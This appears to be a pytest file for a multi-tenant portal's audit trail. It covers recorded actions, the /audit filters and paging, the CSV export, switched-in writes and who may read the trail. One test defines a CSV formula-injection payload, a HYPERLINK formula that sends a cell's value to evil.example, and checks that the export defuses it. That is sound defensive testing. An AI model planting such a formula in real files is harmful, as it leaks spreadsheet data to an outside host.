"""The audit trail in the portal: what people do is recorded as they do it, and landlord staff
read it at /audit (filtered in place by HTMX, each entry in a sentence with its stored values a click
away) and download it as CSV; nobody else may. A write staff made while switched into a tenant is
one line there, and on the tenant's own audit page, saying who acted for whom."""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from litestar.testing import TestClient
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from services.audit import Actor, record, verify
from services.models import AuditEntry, Job, JobStatus, PlatformRole, TenantRole
from services.provisioning.tenants import PROVISION
from services.settings import Settings
from tests.support import Credentials, csrf_token, post_form, run_db, sign_in, signed_in
from tests.web.portal import HTMX, add_tenant, add_token, add_user, is_partial, portal
from tests.web.tenant_world import add_admin, add_units, provision
from tests.web.test_access import assert_friendly_page, signed_in_as
from tests.web.test_provisioning_pages import (
    VALID,
    copy_of_layers,
    latest_job,
    post,
    submit,
    wait_until_job_finished,
    write_custom_revision,
)
from tests.web.test_switching import active_tenant, exit_switch, switch_into
from tests.workers.support import drop_tenant_databases, wait_until_active, wait_until_finished


@pytest.fixture(autouse=True)
def no_stores_left_behind(settings: Settings) -> Iterator[None]:
    yield
    drop_tenant_databases(settings.database_url)


def trail(settings: Settings) -> list[AuditEntry]:
    async def work(session: AsyncSession) -> list[AuditEntry]:
        return list(await session.scalars(select(AuditEntry).order_by(AuditEntry.seq)))

    return run_db(settings, work)


def actions(settings: Settings) -> list[tuple[str, str]]:
    return [(entry.action, entry.actor_email) for entry in trail(settings)]


def test_signing_in_failing_to_and_signing_out_are_recorded(
    client: TestClient[Any], settings: Settings, superadmin: Credentials
) -> None:
    refused = sign_in(client, Credentials(" Nobody@Example.org ", "wrong"))
    assert refused.status_code == 422
    sign_in(client, Credentials(superadmin.email, "wrong"))
    signed_in_as(client, superadmin)
    client.post("/logout", data={"_csrf_token": csrf_token(client)}, follow_redirects=False)

    found = trail(settings)
    assert [(entry.action, entry.actor_email) for entry in found] == [
        ("sign_in_failed", "Nobody@Example.org"),
        ("sign_in_failed", superadmin.email),
        ("sign_in", superadmin.email),
        ("sign_out", superadmin.email),
    ]
    assert found[0].actor_user_id is None and found[1].actor_user_id is None
    assert found[2].actor_user_id is not None and found[2].actor_user_id == found[3].actor_user_id
    assert all(entry.ip for entry in found)


def test_creating_a_landlord_admin_is_recorded(
    superadmin_client: TestClient[Any], settings: Settings
) -> None:
    response = post_form(superadmin_client, "/users", {"email": "Lee@Landlord.example"})
    assert response.status_code == 201

    entry = trail(settings)[-1]
    assert (entry.action, entry.actor_email, entry.target) == (
        "user.create",
        "admin@localhost",
        "lee@landlord.example",
    )

    post_form(superadmin_client, "/users", {"email": "lee@landlord.example"})  # refused: taken
    assert trail(settings)[-1].seq == entry.seq, "a refused action leaves no entry"


def test_a_tenant_requested_through_the_api_is_recorded(client: TestClient[Any], settings: Settings) -> None:
    secret = add_token(settings, "admin@localhost")
    response = client.post(
        "/api/v1/tenants",
        json={"slug": "api-owls", "name": "API Owls", "template": "community_group"},
        headers={"Authorization": f"Bearer {secret}"},
    )
    assert response.status_code == 202, response.text
    wait_until_finished(settings, response.json()["job"]["id"])

    entry = trail(settings)[-1]
    assert (entry.action, entry.actor_email, entry.target) == (
        "tenant.request",
        "admin@localhost",
        "api-owls",
    )
    assert entry.tenant_id == wait_until_active(settings, "api-owls").id
    assert entry.detail == {"job": response.json()["job"]["id"], "token": secret[:10]}


def test_tenant_requests_retries_and_custom_changes_from_the_portal_are_recorded(
    settings: Settings, superadmin: Credentials, tmp_path: Path
) -> None:
    layers = copy_of_layers(tmp_path)
    write_custom_revision(layers, "owls", 1, table_name="owl_sightings")
    stalled = add_tenant(settings, "stalled-club")

    async def stall(session: AsyncSession) -> None:  # its provisioning failed before its first step
        session.add(Job(kind=PROVISION, tenant_id=stalled.id, status=JobStatus.FAILED, error="no context"))

    run_db(settings, stall)
    with portal(dataclasses.replace(settings, layers_dir=layers)) as client:
        signed_in_as(client, superadmin)
        submit(client, {**VALID, "slug": "owls", "template": "community_group"})
        owls = wait_until_active(settings, "owls")
        provisioned = wait_until_finished(settings, latest_job(settings, "owls").id)
        post(client, "/tenants/owls/custom/rollback")
        rolled_back = wait_until_job_finished(settings, "owls", after=provisioned.id)
        post(client, "/tenants/owls/custom/apply", htmx=True)
        assert wait_until_job_finished(settings, "owls", after=rolled_back.id).status == JobStatus.SUCCEEDED
        post(client, "/tenants/stalled-club/retry")
        wait_until_active(settings, "stalled-club")

    found = [entry for entry in trail(settings) if entry.action.startswith("tenant.")]
    assert [(entry.action, entry.target, entry.tenant_id) for entry in found] == [
        ("tenant.request", "owls", owls.id),
        ("tenant.custom_rollback", "owls", owls.id),
        ("tenant.custom_apply", "owls", owls.id),
        ("tenant.retry", "stalled-club", stalled.id),
    ]
    assert all(entry.actor_email == superadmin.email for entry in found)
    assert found[0].detail == {"job": provisioned.id}


# --- The viewer -------------------------------------------------------------------------------


def some_history(settings: Settings) -> None:
    owls, badgers = add_tenant(settings, "owls"), add_tenant(settings, "badgers")

    async def work(session: AsyncSession) -> None:
        ops, lee = Actor("ops@example.org", 1), Actor("lee@example.org", 2)
        await record(session, action="tenant.request", actor=ops, tenant_id=owls.id, target="owls")
        await record(session, action="tenant.request", actor=lee, tenant_id=badgers.id, target="badgers")
        await record(session, action="tenant.retry", actor=lee, tenant_id=owls.id, target="owls")
        await record(session, action="sign_in_failed", actor=Actor("mallory@example.org"), ip="203.0.113.9")

    run_db(settings, work)


def rows(page: str) -> list[str]:
    """The entries' numbers shown in the audit table, in page order."""
    return re.findall(r"<tr>\s*<td>(\d+)</td>", page)


def sentences(page: str) -> list[str]:
    """What the audit table says happened, line by line, as a person reads it."""
    return [
        html.unescape(said) for said in re.findall(r"<td class=\"sentence\">\s*([^<]+?)\s*<details>", page)
    ]


def test_staff_filter_the_trail_by_actor_action_and_tenant(
    superadmin_client: TestClient[Any], settings: Settings
) -> None:
    some_history(settings)  # entries 2..5 (1 is the superadmin's sign-in)

    page = superadmin_client.get("/audit")
    assert page.status_code == 200
    assert "<h1>Audit trail</h1>" in page.text and 'href="/audit"' in page.text
    assert rows(page.text) == ["5", "4", "3", "2", "1"]

    by_actor = superadmin_client.get("/audit", params={"actor": "LEE@"}, headers=HTMX)
    assert is_partial(by_actor.text) and 'id="audit-table"' in by_actor.text
    assert rows(by_actor.text) == ["4", "3"]
    assert rows(superadmin_client.get("/audit", params={"action": "tenant.request"}).text) == ["3", "2"]
    assert rows(superadmin_client.get("/audit", params={"tenant": "owls"}).text) == ["4", "2"]
    both = superadmin_client.get("/audit", params={"tenant": "owls", "actor": "lee"})
    assert rows(both.text) == ["4"]
    assert rows(superadmin_client.get("/audit", params={"since": "2999-01-01"}).text) == []
    assert rows(superadmin_client.get("/audit", params={"until": "2999-01-01"}).text) == [
        "5",
        "4",
        "3",
        "2",
        "1",
    ]
    assert "No entry matches these filters." in superadmin_client.get("/audit", params={"actor": "zed"}).text
    assert "is not a date" in superadmin_client.get("/audit", params={"since": "yesterday"}).text


def test_the_trail_pages(superadmin_client: TestClient[Any], settings: Settings) -> None:
    async def work(session: AsyncSession) -> None:
        for number in range(60):
            await record(session, action="sign_in", actor=Actor(f"user{number}@example.org"))

    run_db(settings, work)

    first = superadmin_client.get("/audit").text
    assert len(rows(first)) == 50 and rows(first)[0] == "61"
    assert "61 entries · page 1 of 2" in first
    second = superadmin_client.get("/audit", params={"page": 2}, headers=HTMX).text
    assert rows(second) == [str(seq) for seq in range(11, 0, -1)]


def test_the_csv_has_a_header_and_the_filtered_rows(
    superadmin_client: TestClient[Any], settings: Settings
) -> None:
    some_history(settings)

    response = superadmin_client.get("/audit.csv", params={"tenant": "owls"})

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="audit.csv"'
    table = list(csv.reader(io.StringIO(response.text)))
    assert table[0][:6] == ["seq", "at", "actor_email", "actor_user_id", "tenant", "action"]
    assert table[0][-1] == "sentence"
    assert [(row[0], row[2], row[4], row[5], row[-1]) for row in table[1:]] == [
        ("4", "lee@example.org", "owls", "tenant.retry", "lee@example.org retried provisioning Owls"),
        ("2", "ops@example.org", "owls", "tenant.request", "ops@example.org asked for the tenant Owls"),
    ]
    everything = list(csv.reader(io.StringIO(superadmin_client.get("/audit.csv").text)))
    assert len(everything) == 1 + 5
    assert 'href="/audit.csv?tenant=owls"' in superadmin_client.get("/audit", params={"tenant": "owls"}).text


def test_staff_read_each_entry_as_a_sentence_with_its_stored_values_a_click_away(
    superadmin_client: TestClient[Any], settings: Settings
) -> None:
    reed = add_tenant(settings, "reed-choir", "Reed Choir")

    async def work(session: AsyncSession) -> None:
        lee, anna = Actor("lee@landlord.example", 8), Actor("anna@reed.example", 9)
        for actor, action, detail in (
            (lee, "tenant.request", {"job": 12, "first_admin": "anna@reed.example"}),
            (anna, "module.enable", {"job": 13, "modules": ["events", "volunteering"], "required": []}),
            (anna, "module.disable", {"job": 14, "module": "events", "keep_data": True}),
        ):
            await record(
                session, action=action, actor=actor, tenant_id=reed.id, target=reed.slug, detail=detail
            )

    run_db(settings, work)

    page = superadmin_client.get("/audit", params={"tenant": "reed-choir"}).text

    assert sentences(page) == [
        "anna@reed.example disabled the Events module of Reed Choir, keeping its data (job #14)",
        "anna@reed.example enabled the Events and Volunteering modules of Reed Choir (job #13)",
        "lee@landlord.example asked for the tenant Reed Choir, with anna@reed.example as its first admin (job #12)",
    ]
    assert "keep_data=" not in page and "modules=[" not in page
    stored = page.split("keeping its data (job #14)")[1].split("</details>")[0]
    assert "<summary>As recorded</summary>" in stored and "<code>module.disable</code>" in stored
    assert "<dt>keep_data</dt><dd><code>true</code></dd>" in stored


SWITCHED_RENAME = (
    "admin@localhost (superadmin, switched in) renamed the unit North to North HQ for Switch Club"
)


def test_a_write_made_switched_in_is_one_line_saying_who_acted_for_whom_on_both_audit_pages(
    settings: Settings, superadmin: Credentials
) -> None:
    provision(settings, "switch-club")
    north = add_units(settings, "switch-club", [("North", None)])["North"]
    club_admin = add_admin(settings, "switch-club", "admin@switch.example")
    with portal(settings) as client:
        signed_in(client, superadmin)
        switch_into(client, "switch-club")
        path = f"/t/switch-club/units/{north}/rename"
        renamed = post_form(client, path, {"name": "North HQ"}, follow_redirects=False)
        exit_switch(client)
        landlord_page = client.get("/audit", params={"tenant": "switch-club"}).text
        tenant_page = signed_in(client, club_admin).get("/t/switch-club/audit").text

    assert renamed.status_code == 303
    for page in (landlord_page, tenant_page):
        assert sentences(page).count(SWITCHED_RENAME) == 1
        assert not [line for line in sentences(page) if "made a change" in line], "the write is told twice"
        stored = page.split(SWITCHED_RENAME)[1].split("</details>")[0]
        assert "<code>unit.rename</code>" in stored and "<code>switch.write</code>" in stored
        assert f"<code>&#34;{path}&#34;</code>" in stored
    kept = [entry.action for entry in trail(settings)]
    assert kept.count("unit.rename") == kept.count("switch.write") == 1, "the trail keeps both, as stored"
    assert run_db(settings, verify).ok


def test_a_landlord_write_made_switched_in_says_where_and_the_csv_keeps_both_entries(
    superadmin_client: TestClient[Any], settings: Settings
) -> None:
    active_tenant(settings, "harbour-club", "Harbour Club")
    switch_into(superadmin_client, "harbour-club")
    assert post_form(superadmin_client, "/users", {"email": "robin@landlord.example"}).status_code == 201
    exit_switch(superadmin_client)

    everything = sentences(superadmin_client.get("/audit").text)
    harbours = sentences(superadmin_client.get("/audit", params={"tenant": "harbour-club"}).text)
    table = list(csv.DictReader(io.StringIO(superadmin_client.get("/audit.csv").text)))

    created = (
        "admin@localhost (superadmin, switched into Harbour Club) created the account robin@landlord.example"
    )
    made = "admin@localhost (superadmin, switched in) made a change for Harbour Club: POST /users"
    assert created in everything and made not in everything
    assert made in harbours and created not in harbours, "the account is no tenant's: the write shows alone"
    assert [(row["action"], row["sentence"]) for row in table[:3]] == [
        ("switch.end", next(line for line in everything if "left Harbour Club" in line)),
        ("switch.write", made),
        ("user.create", created),
    ]


FORMULA_EMAIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_a_formula_typed_at_the_sign_in_form_is_plain_text_in_the_csv(
    client: TestClient[Any], settings: Settings, superadmin: Credentials
) -> None:
    assert sign_in(client, Credentials(FORMULA_EMAIL, "wrong")).status_code == 422
    signed_in_as(client, superadmin)

    table = list(csv.reader(io.StringIO(client.get("/audit.csv").text)))

    failed = next(row for row in table if row[5] == "sign_in_failed")
    assert failed[2] == "'" + FORMULA_EMAIL
    cells = [cell for row in table for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_landlord_admin_reads_the_trail(client: TestClient[Any], settings: Settings) -> None:
    admin = add_user(settings, "lee@landlord.example", PlatformRole.LANDLORD_ADMIN)
    signed_in_as(client, admin)

    assert client.get("/audit").status_code == 200
    assert client.get("/audit.csv").status_code == 200


@pytest.mark.parametrize("role", [TenantRole.TENANT_ADMIN, TenantRole.TENANT_MEMBER])
def test_tenant_people_may_not_read_the_trail(client: TestClient[Any], settings: Settings, role: str) -> None:
    add_tenant(settings, "harbour-club")
    person = add_user(settings, "pat@harbour.example", role, tenant_slug="harbour-club")
    signed_in_as(client, person)

    assert 'href="/audit"' not in client.get("/").text
    assert_friendly_page(client.get("/audit"), 403, "Not allowed")
    assert client.get("/audit.csv").status_code == 403


def test_visitors_are_sent_to_sign_in(client: TestClient[Any]) -> None:
    for path in ("/audit", "/audit.csv"):
        response = client.get(path, follow_redirects=False)
        assert response.status_code in (302, 303)
        assert response.headers["location"].startswith("/login")
